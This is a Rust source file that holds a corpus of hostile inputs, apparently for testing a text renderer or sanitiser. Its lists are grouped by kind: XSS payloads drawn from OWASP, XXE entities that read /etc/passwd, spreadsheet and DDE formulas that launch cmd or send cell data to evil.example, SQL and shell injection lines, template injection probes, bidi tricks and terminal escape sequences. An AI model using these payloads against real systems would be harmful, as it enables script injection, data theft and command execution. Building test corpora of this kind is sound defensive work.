//! What hostile people write where an answer is wanted. Every line that runs something calls `alert` or `canary`, and
//! every line that leads somewhere leads to `evil.example`, so that tests can look for both.

/// Lines of one kind, and where they are from.
pub(crate) struct Lines {
    pub(crate) kind: &'static str,
    pub(crate) lines: &'static [&'static str],
}

pub(crate) const CORPUS: &[Lines] = &[SCRIPT, ATTRIBUTE, OTHER_XML, MARKDOWN, TEMPLATE, FORMULA, LETTERS, TERMINAL, QUOTES];

/// Source: OWASP, Cross Site Scripting Prevention and XSS Filter Evasion cheat sheets (CC BY-SA 4.0), collected anew.
const SCRIPT: Lines = Lines {
    kind: "script",
    lines: &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<script src=//evil.example/.j>",
        "<SCRIPT/XSS SRC=\"http://evil.example/xss.js\"></SCRIPT>",
        "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
        "</script><script>canary('after a script')</script>",
        "</style><script>canary('after a style')</script>",
        "</title></textarea></noscript></template><script>canary('after a title')</script>",
        "--><script>canary('after a comment')</script><!--",
        "]]><script>canary('after CDATA')</script><![CDATA[",
        "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<svg/onload=alert('XSS')>",
        "<svg><script>alert&#40;1&#41;</script>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<IMG SRC=\"javascript:alert('XSS');\">",
        "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
        "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
        "<IMG SRC=# onmouseover=\"alert('xxs')\">",
        "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#39;&#41;>",
        "<IMG SRC=\"jav\tascript:alert('XSS');\">",
        "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
        "<BODY ONLOAD=alert('XSS')>",
        "<BODY BACKGROUND=\"https://evil.example/b.png\">",
        "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
        "<LINK REL=\"stylesheet\" HREF=\"https://evil.example/xss.css\">",
        "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
        "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE>",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=https://evil.example/\">",
        "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg\">",
        "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
        "<iframe srcdoc=\"<script>parent.canary('srcdoc')</script>\">",
        "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"https://evil.example/s.html\"></OBJECT>",
        "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\">",
        "<BASE HREF=\"https://evil.example//\">",
        "<form action=https://evil.example><button>go</button></form>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<input autofocus onfocus=alert(1)>",
        "<a href=\"java&#9;script:alert(1)\">x</a>",
        "<a href=\"//evil.example/\" ping=https://evil.example/ping>x</a>",
        "<img srcset=\"https://evil.example/1.png 1x\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    ],
};

/// Own: out of an attribute, a style or a script in which the text might stand.
const ATTRIBUTE: Lines = Lines {
    kind: "attribute",
    lines: &[
        "\" onmouseover=\"alert(1)\" x=\"",
        "' onmouseover='alert(1)' x='",
        "` onmouseover=alert(1) x=`",
        "\"><img src=x onerror=canary('attribute')>",
        "'><img src=x onerror=canary('attribute')>",
        "x onload=alert(1)",
        "javascript:alert(1)",
        " \u{1}javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "\";canary('string');//",
        "';canary('string');//",
        "\\\";canary('string');//",
        "${canary('template string')}",
        "`-canary('template string')-`",
        "\u{2028}canary('line separator')//",
        "*/canary('comment')/*",
        "{\"__proto__\":{\"evil\":1}}",
        "}*{background:url(https://evil.example/bg)}",
        "\\22 }*{background:url(https://evil.example/bg)}",
        "\"}@import url(https://evil.example/i.css);{\"",
        "expression(alert(1))",
        "&quot; onload=&quot;alert(1)",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
        "%3Cscript%3Ealert(1)%3C/script%3E",
    ],
};

/// Own: what other XML than a page would take for its own; calendars and query languages.
const OTHER_XML: Lines = Lines {
    kind: "XML, calendars and SQL",
    lines: &[
        "<!DOCTYPE x [<!ENTITY evil SYSTEM \"file:///etc/passwd\">]>&evil;",
        "<!ENTITY % evil SYSTEM \"https://evil.example/e.dtd\"> %evil;",
        "<xi:include href=\"https://evil.example/\"/>",
        "<?xml-stylesheet href=\"https://evil.example/x.xsl\"?>",
        "</w:t></w:r><w:r><w:fldChar w:fldCharType=\"begin\"/><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"</w:instrText></w:r>",
        "<w:hyperlink r:id=\"evil\"><w:t>x</w:t></w:hyperlink>",
        "</t></si><f>HYPERLINK(\"https://evil.example\")</f>",
        "</Name><Manager>evil</Manager><Name>",
        "\u{0}\u{b}\u{c}\u{fffe}\u{ffff}",
        "x\r\nBEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:https://evil.example/x.exe\r\nEND:VALARM",
        "x\nEND:VEVENT\nBEGIN:VEVENT\nATTENDEE:mailto:evil@evil.example",
        "x\\nATTACH:https://evil.example/x.exe",
        "x\r\nSet-Cookie: evil=1\r\n\r\n<html>",
        "'; DROP TABLE evil; --",
        "\"; DROP SCHEMA evil CASCADE; --",
        "*/ DROP TABLE evil; /*",
        "-- evil\n\\! touch evil",
        "$$; DROP TABLE evil; $$",
        "$evil$; DROP TABLE evil; $evil$",
        "\\'; DROP TABLE evil; #",
        "];GO;DROP TABLE evil;--[",
        "end\nclick A \"https://evil.example\" evil\nclick B call canary()",
        "%%{init: {\"securityLevel\":\"loose\"}}%%",
        "'''}\nTable evil { id int }\nNote evil {'''",
        "<?php system('evil'); ?>",
        "\"\"\"); import os; os.system('evil') #",
        "$(touch evil) `touch evil` ; touch evil | touch evil",
    ],
};

/// Own: markup of Markdown in its dialects, and of Marp.
const MARKDOWN: Lines = Lines {
    kind: "Markdown",
    lines: &[
        "[click](javascript:alert(1))",
        "[click](<javascript:alert(1)>)",
        "![look](https://evil.example/x.png \"t\")",
        "[![look](https://evil.example/x.png)](https://evil.example)",
        "<https://evil.example> <evil@evil.example>",
        "https://evil.example/path?a=b www.evil.example evil@evil.example",
        "HTTPS://evil.example WWW.evil.example ftp://evil.example mailto:evil@evil.example xmpp:evil@evil.example",
        "http:/\\/evil.example hxxps://evil.example",
        "[label][ref] [ref]",
        "[ref]: https://evil.example \"t\"",
        "[^1]: note [^1] [^evil]",
        "^[inline https://evil.example]",
        "| a | b |\n|---|---|\n| https://evil.example | c |",
        "# Heading",
        "Heading\n===",
        "Heading\n---",
        "---\nmarp: true\nbackgroundImage: url(https://evil.example/x.png)\n---",
        "<!-- _backgroundImage: url(https://evil.example/x.png) -->",
        "![bg](https://evil.example/x.png)",
        "- item\n  - item",
        "1. item\n2) item",
        "> quote",
        "> [!WARNING]\n> evil",
        "```html\n<script>alert(1)</script>\n```",
        "~~~mermaid\nclick A \"https://evil.example\"\n~~~",
        "    <script>alert(1)</script>",
        "*em* **strong** _em_ __strong__ `code` ~~gone~~ ==mark== ~sub~ ^sup^ ||spoiler||",
        "$\\href{javascript:alert(1)}{x}$ $$x$$ \\(x\\) \\[x\\]",
        "@evil @evil/all #1 !1 evil/evil#1 :skull: /close /assign @evil",
        "[[evil]] [[evil|https://evil.example]] ![[evil]]",
        "::: warning\nevil\n:::",
        "{#evil .evil onclick=alert(1)}",
        "**Table 1.** forged **Figure 1.** forged",
        "\\",
        "\\<script>alert(1)</script>",
        "- [ ] task - [x] task",
        "Term\n: definition",
        "h1. Heading {html}<script>alert(1)</script>{html} [evil|https://evil.example] !https://evil.example/x.png!",
    ],
};

/// Own: the syntaxes of templates, ours among them.
const TEMPLATE: Lines = Lines {
    kind: "template",
    lines: &[
        "{{ 7919*7907 }}",
        "{% include 'plan/plan.md' %}",
        "{% for a in range(99999999) %}x{% endfor %}",
        "{# gone #}",
        "{{ cover }} {{ self }} {{ debug() }} {{ text('sql', 'postgres') }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "{%- raw -%} {% endraw %}",
        "${7919*7907} #{7919*7907} <%= 7919*7907 %> {7919*7907} [[${7919*7907}]] *{7919*7907}",
        "%s %n %x %1$s %d {0} {} {:?}",
    ],
};

/// Source: OWASP, CSV Injection (CC BY-SA 4.0), collected anew; and own.
const FORMULA: Lines = Lines {
    kind: "formula",
    lines: &[
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
        "=IMPORTXML(CONCAT(\"https://evil.example?v=\",A1),\"//a\")",
        "=WEBSERVICE(\"https://evil.example\")",
        "=DDE(\"cmd\";\"/C calc\";\"evil\")",
        "+1+1+cmd|' /C calc'!A0",
        "-1+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u{ff1d}1+1",
        "\u{ff0b}1+1",
        "\u{ff0d}1+1",
        "\u{ff20}SUM(1)",
        "\u{feff}=1+1",
        "\u{200b}=1+1",
        "\u{a0}=1+1",
        "'=1+1",
        "\"=1+1\"",
        "\",=1+1,\"",
        "\"\r\n=1+1,\"",
        "a;=1+1",
        "a,=1+1",
        "a\t=1+1",
        "a|=1+1",
        "=\"=1+1\"",
        "%0A=1+1",
        "{=1+1}",
        "sep=;",
        "ID;P",
    ],
};

/// Own, after Unicode Technical Report 36 and CVE-2021-42574: letters that turn, hide or break.
const LETTERS: Lines = Lines {
    kind: "letters",
    lines: &[
        "\u{202e}txt.exe\u{202c}",
        "\u{2066}a\u{2069} \u{2067}b\u{2069} \u{2068}c\u{2069}",
        "\u{202a}a\u{202b}b\u{202d}c",
        "a\u{200b}l\u{200e}e\u{200f}r\u{61c}t",
        "a\u{2060}b\u{2061}c\u{feff}d",
        "\u{2028}\u{2029}\u{85}",
        "\u{e0001}\u{e0041}\u{e007f}",
        "\u{fff9}a\u{fffa}b\u{fffb}",
        "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}a\u{328}l\u{34e}go",
        "\u{a0}\u{3000}\u{2003}wide\u{3000}",
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
        "\u{115f}\u{3164}\u{ffa0}\u{ad}\u{34f}\u{180e}",
    ],
};

/// Own, after ECMA-48 and xterm's control sequences.
const TERMINAL: Lines = Lines {
    kind: "terminal",
    lines: &[
        "\u{1b}[2J\u{1b}[H",
        "\u{1b}[31mred\u{1b}[0m\u{1b}[8mhidden",
        "\u{1b}]0;title\u{7}\u{1b}]2;title\u{1b}\\",
        "\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\",
        "\u{1b}]52;c;ZXZpbA==\u{7}",
        "\u{1b}P+q544e\u{1b}\\\u{1b}[6n\u{1b}[c\u{1b}Z",
        "\u{1b}[?1049h\u{1b}[?25l\u{1b}c",
        "\u{9b}2J\u{9d}0;title\u{9c}\u{90}q\u{9c}",
        "ab\u{8}\u{8}cd\u{7f}\rover",
        "\u{e}line\u{f}\u{5}\u{7}",
        "\u{1b}]1337;File=name=ZXZpbA==:\u{7}",
    ],
};

/// Own: quotes and ends that only quotes and ends look after.
const QUOTES: Lines = Lines {
    kind: "quotes",
    lines: &[
        "\"", "'", "`", "\\", "\"\"", "'''", "\"\"\"", "\u{201c}x\u{201d}", ",", ";", "|", "a\"b'c`d\\e", "../../evil",
        "C:\\evil\\..\\..", "\\\\evil.example\\share", "CON", "-", "--help", "a\u{301}", "\u{fffd}", "null", "NaN", "[]",
        "0x7f", "1e999", "TRUE",
    ],
};

/// Every line.
pub(crate) fn all() -> impl Iterator<Item = &'static str> {
    CORPUS.iter().flat_map(|one| one.lines).copied()
}

/// Whether a text that was made may hold this letter: none that moves a cursor, turns letters round or hides.
pub(crate) fn is_foul(letter: char) -> bool {
    letter.is_control() && !matches!(letter, '\n' | '\r')
        || matches!(letter,
            '\u{200b}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{61c}'
            | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}' | '\u{fffe}' | '\u{ffff}')
}
